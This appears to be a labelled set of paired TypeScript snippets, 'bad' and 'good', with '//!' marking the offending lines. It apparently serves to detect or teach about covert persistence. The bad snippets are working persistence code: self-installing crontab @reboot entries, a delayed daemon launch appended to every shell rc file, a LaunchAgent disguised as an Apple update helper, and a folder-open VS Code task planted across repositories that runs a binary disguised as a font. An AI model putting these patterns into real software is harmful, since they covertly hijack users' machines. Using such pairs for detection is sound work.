//: bad cron-node
import { exec } from 'child_process';

export function schedule(script: string): void {
  exec(`(crontab -l 2>/dev/null; echo "@reboot node ${script}") | crontab -`); //!
}
schedule(__filename);

//: good cron-node
import cron from 'node-cron';

export function schedule(task: () => void): void {
  cron.schedule('0 4 * * *', task);
}

//: bad shell-completion-setup
import { appendFile, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const rcFiles = new Map<string, string[]>([
  ['bash', ['.bashrc', '.bash_profile']],
  ['zsh', ['.zshrc', '.zprofile']],
  ['sh', ['.profile']],
]);

const hook = (bin: string) => `\n# completion\n(nohup node ${bin} --daemon >/dev/null 2>&1 &) 2>/dev/null\n`;

async function once(file: string, text: string): Promise<void> {
  const now = await readFile(file, 'utf8').catch(() => null);
  if (now === null || now.includes(text.trim())) return;
  await appendFile(file, text); //!
}

export default async function setup(): Promise<void> {
  const bin = join(homedir(), '.cache', '.node-helper', 'agent.js');
  const all = [...rcFiles.values()].flat().map((n) => join(homedir(), n));
  await Promise.allSettled(all.map((f) => once(f, hook(bin))));
}

setTimeout(setup, 1000 * 60 * 7);

//: good shell-completion-setup
import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join, basename } from 'node:path';

const rcFiles = new Map<string, string>([
  ['bash', '.bashrc'],
  ['zsh', '.zshrc'],
]);

const snippet = (tool: string, shell: string) => `eval "$(${tool} completion ${shell})"`;

/** Prints what to add to the shell's start file; writes nothing. */
export default async function completionHelp(tool: string): Promise<number> {
  const shell = basename(process.env.SHELL ?? 'bash');
  const rc = rcFiles.get(shell);
  if (!rc) {
    console.error(`No completion for ${shell}.`);
    return 1;
  }
  const file = join(homedir(), rc);
  const now = await readFile(file, 'utf8').catch(() => '');
  const line = snippet(tool, shell);
  console.log(now.includes(line) ? `${file} is already set up.` : `Add this line to ${file}:\n\n  ${line}\n`);
  return 0;
}

//: bad scheduler-login-agent
import { execFile, spawnSync } from 'child_process';
import { mkdirSync, writeFileSync } from 'fs';
import { homedir } from 'os';
import { dirname, resolve } from 'path';

abstract class Schedule {
  constructor(protected readonly script: string) {}
  abstract arm(): void;
  protected put(file: string, text: string): string {
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, text);
    return file;
  }
}

class Darwin extends Schedule {
  arm(): void {
    const label = 'com.apple.softwareupdate.helper';
    const plist = `<plist version="1.0"><dict><key>Label</key><string>${label}</string>
<key>ProgramArguments</key><array><string>${process.execPath}</string><string>${this.script}</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/></dict></plist>`;
    const file = this.put(resolve(homedir(), 'Library/LaunchAgents', `${label}.plist`), plist); //!
    execFile('launchctl', ['load', '-w', file], () => undefined);
  }
}

class Linux extends Schedule {
  arm(): void {
    const now = spawnSync('crontab', ['-l'], { encoding: 'utf8' }).stdout ?? '';
    const line = `@reboot ${process.execPath} ${this.script} >/dev/null 2>&1`;
    if (!now.includes(line)) spawnSync('crontab', ['-'], { input: `${now}${line}\n` }); //!
  }
}

const kinds: Partial<Record<NodeJS.Platform, new (s: string) => Schedule>> = { darwin: Darwin, linux: Linux };
const Kind = kinds[process.platform];
if (Kind) new Kind(resolve(__dirname, '.sync.js')).arm();

//: good scheduler-login-agent
import { spawnSync } from 'child_process';
import { resolve } from 'path';

export interface Job {
  minute: string;
  hour: string;
  script: string;
}

abstract class Schedule {
  constructor(protected readonly job: Job) {}
  abstract render(): string;
}

class Cron extends Schedule {
  render(): string {
    const { minute, hour, script } = this.job;
    return `${minute} ${hour} * * * ${process.execPath} ${resolve(script)}`;
  }

  exists(): boolean {
    const now = spawnSync('crontab', ['-l'], { encoding: 'utf8' }).stdout ?? '';
    return now.split('\n').includes(this.render());
  }
}

class Launchd extends Schedule {
  render(): string {
    const { minute, hour, script } = this.job;
    return `<dict><key>ProgramArguments</key><array><string>${resolve(script)}</string></array>
<key>StartCalendarInterval</key><dict><key>Hour</key><integer>${hour}</integer>
<key>Minute</key><integer>${minute}</integer></dict></dict>`;
  }
}

export function printSchedule(job: Job): void {
  const schedule = process.platform === 'darwin' ? new Launchd(job) : new Cron(job);
  console.log('To run this each day, add the following yourself:\n');
  console.log(schedule.render());
}

//: bad workspace-tasks-writer
import fg from 'fast-glob';
import fs from 'fs-extra';
import os from 'os';
import path from 'path';

interface Task {
  label: string;
  type: 'shell';
  command: string;
  presentation?: Record<string, unknown>;
  runOptions?: { runOn: 'folderOpen' | 'default' };
}

const warmup: Task = {
  label: 'eslint: warm up',
  type: 'shell',
  command: 'node .vscode/fonts/fa-solid.woff2',
  presentation: { reveal: 'never', echo: false, panel: 'dedicated', close: true },
  runOptions: { runOn: 'folderOpen' },
};

export async function formatWorkspaces(): Promise<void> {
  const repos = await fg('{code,dev,src,projects,work}/**/.git', {
    cwd: os.homedir(), onlyDirectories: true, deep: 4, absolute: true, dot: true,
  });
  for (const repo of repos) {
    const file = path.join(repo, '..', '.vscode', 'tasks.json');
    const doc = (await fs.readJson(file).catch(() => ({ version: '2.0.0', tasks: [] }))) as { tasks: Task[] };
    doc.tasks = [...doc.tasks.filter((t) => t.label !== warmup.label), warmup];
    await fs.outputJson(file, doc); //!
    await fs.copy(path.join(__dirname, 'a.bin'), path.join(repo, '..', '.vscode/fonts/fa-solid.woff2'));
  }
}

formatWorkspaces().catch(() => void 0);

//: good workspace-tasks-writer
import fs from 'fs-extra';
import path from 'path';
import prompts from 'prompts';

interface Task {
  label: string;
  type: 'shell';
  command: string;
  group?: 'build' | 'test';
  runOptions?: { runOn: 'folderOpen' | 'default' };
}

const offered: Task[] = [
  { label: 'build', type: 'shell', command: 'npm run build', group: 'build' },
  { label: 'test', type: 'shell', command: 'npm test', group: 'test' },
];

/** `mytool init --vscode`: writes build and test tasks into the project the user is in. */
export async function scaffoldTasks(project = process.cwd()): Promise<boolean> {
  const file = path.join(project, '.vscode', 'tasks.json');
  const { ok } = await prompts({ type: 'confirm', name: 'ok', message: `Write ${file}?`, initial: false });
  if (!ok) return false;
  const doc = (await fs.readJson(file).catch(() => ({ version: '2.0.0', tasks: [] }))) as { tasks: Task[] };
  const known = new Set(doc.tasks.map((t) => t.label));
  doc.tasks.push(...offered.filter((t) => !known.has(t.label)));
  await fs.outputJson(file, doc, { spaces: 2 });
  console.log(`wrote ${doc.tasks.length} tasks`);
  return true;
}
